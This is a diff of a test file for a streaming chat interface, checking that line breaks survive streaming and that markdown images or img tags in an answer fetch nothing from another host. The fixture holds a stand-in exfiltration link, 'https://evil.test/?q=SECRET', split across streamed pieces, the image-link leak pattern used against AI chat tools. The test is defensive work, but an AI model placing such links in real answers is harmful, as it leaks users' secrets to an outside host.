@@ -46,8 +46,8 @@ test("each piece is shown soon after it was sent", async ({ chat, upstream }) =>
 });
 
 test("paragraphs and lines are kept", async ({ chat, upstream }) => {
-  const text = "First paragraph.\n\nSecond paragraph,\nin two lines.\n\n    indented";
-  upstream.willAnswer(["First para", "graph.\n", "\nSecond paragraph,", "\nin two lines.\n\n    ", "indented"]);
+  const text = "First paragraph.\n\nSecond paragraph,\nin two lines.\n\nThird.";
+  upstream.willAnswer(["First para", "graph.\n", "\nSecond paragraph,", "\nin two lines.\n\n", "Third."]);
   await chat.open();
   await chat.ask("Write two paragraphs");
   await chat.finished();
@@ -86,9 +86,14 @@ test("an image in an answer asks no other host for anything", async ({ chat, ups
   await chat.open();
   await chat.ask("Show me a picture");
   // The guard of every test fails it if any other host is asked, at any moment.
-  for (const piece of ["![a](http", "s://evil.test/?q=SECRET)", ' <img src="https://evil.test/2">']) {
+  for (const [piece, shown] of [
+    ["Look: ![a pict", "a pict"],
+    ["ure](http", "a picture"],
+    ["s://evil.test/?q=SECRET)", "a picture"],
+    [' <img src="https://evil.test/2">', '<img src="https://evil.test/2">'],
+  ] as const) {
     await upstream.send(piece);
-    await expect(chat.answer()).toContainText(piece.trim());
+    await expect(chat.answer()).toContainText(shown);
     await chat.drawn();
   }
   await upstream.finish();
